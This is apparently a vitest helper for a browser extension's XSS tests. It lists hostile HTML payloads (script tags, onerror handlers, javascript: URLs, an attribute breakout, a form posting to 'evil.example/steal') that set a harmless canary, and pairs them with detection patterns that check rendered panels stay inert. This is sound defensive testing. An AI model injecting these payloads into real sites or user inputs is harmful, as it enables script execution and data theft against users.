import { expect, vi } from 'vitest';
import { browser } from 'wxt/browser';
import type { Handlers } from '../../lib/protocol/router';
import { route } from '../../lib/protocol/router';
import type { SenderContext } from '../../lib/protocol/sender';

/**
 * Shared by the XSS tests (xss.test.tsx): the hostile payloads, the check that a rendered panel
 * is inert, and a way to answer a panel's requests the way a remote system (Gmail, a CRM) would
 * have, with hostile data, while everything else goes through the real background.
 */

export const CANARY = 'window.__pwned=1';

/** One payload per line: each a way hostile HTML or text has been made to run. */
export const PAYLOADS = [
  `<script>${CANARY}</script>`,
  `<img src=x onerror="${CANARY}">`,
  `<a href="javascript:${CANARY}">click</a>`,
  `<svg onload="${CANARY}"><script>${CANARY}</script></svg>`,
  `<div style="background:url(javascript:${CANARY});width:expression(${CANARY})">css</div>`,
  `<iframe src="javascript:${CANARY}"></iframe><iframe srcdoc="<script>${CANARY}</script>"></iframe>`,
  `<form action="https://evil.example/steal"><input name=p><button formaction="javascript:${CANARY}">go</button></form>`,
  `<a href="data:text/html,<script>${CANARY}</script>">data</a><object data="data:text/html,x"></object><embed src="x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${CANARY}">`,
  `"><img src=x onerror=${CANARY}>`,
] as const;

export const HOSTILE = PAYLOADS.join('\n');

/** A hostile string for fields with a length limit: `label` first, so it can be found in the panel. */
export const hostile = (label: string, max = 600) => `${label} ${HOSTILE}`.slice(0, max);
/** A short hostile string that still breaks out of an attribute and carries a handler. */
export const SHORT = `"><img src=x onerror=${CANARY}>`;

/**
 * Forms: the panels draw forms of their own (the new-sequence form), each marked with a
 * data-testid and none with an action; any other form, or any action/formaction, came from data.
 */
const TAGS = 'script, iframe, object, embed, frame, frameset, base, meta[http-equiv], link, applet, portal, form:not([data-testid]), form[action], form[method], form[target], [formaction]';
const URL_ATTRS = /^(href|src|action|formaction|xlink:href|srcdoc|data|style|srcset|poster|background)$/i;

export function clearCanary() {
  delete (window as { __pwned?: unknown }).__pwned;
}

/**
 * The panel's DOM holds no element that runs or loads anything, no event-handler attribute, no
 * javascript:/data:text/html/vbscript: URL or CSS expression, and the canary was never set.
 */
export function expectInert(root: ShadowRoot | Element | null) {
  expect(root).not.toBeNull();
  const all = [...root!.querySelectorAll('*')];
  expect(all.length).toBeGreaterThan(3); // something was rendered
  const forbidden = [...root!.querySelectorAll(TAGS)].map((el) => el.outerHTML.slice(0, 120));
  expect(forbidden, 'elements that run or load something').toEqual([]);
  for (const el of all) {
    for (const attr of [...el.attributes]) {
      expect(attr.name, `${el.tagName} has ${attr.name}`).not.toMatch(/^on/i);
      if (URL_ATTRS.test(attr.name)) expect(attr.value, `${el.tagName} ${attr.name}`).not.toMatch(/javascript:|data:text\/html|expression\(|vbscript:/i);
    }
  }
  expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
}

/** The hostile text is in the panel as text (escaped), not dropped: the rep must see what came in. */
export function expectShownAsText(root: ShadowRoot | Element | null, ...fragments: string[]) {
  const text = root?.textContent ?? '';
  for (const f of fragments.length ? fragments : ['onerror']) expect(text, `shows ${f}`).toContain(f);
}

type Override = (req: { type: string; [k: string]: unknown }) => unknown;

/**
 * Answers the panel's requests as `sender` (the real router, so the sender policy still applies)
 * with the real handlers, except the request types in `overrides`: those get what the function
 * returns, as a remote system behind the background would have made it (a throw becomes the
 * background's error envelope).
 */
export function answerAs(handlers: () => Handlers, sender: SenderContext, overrides: Partial<Record<string, Override>> = {}) {
  vi.spyOn(browser.runtime, 'sendMessage').mockImplementation((async (raw: { type: string }) => {
    const override = overrides[raw.type];
    if (!override) return route(raw, sender, handlers(), (e) => console.error(e));
    try {
      return { ok: true, data: await override(raw) };
    } catch (e) {
      const { code = 'internal', message = String(e) } = e as { code?: string; message?: string };
      return { ok: false, error: { code, message } };
    }
  }) as never);
}
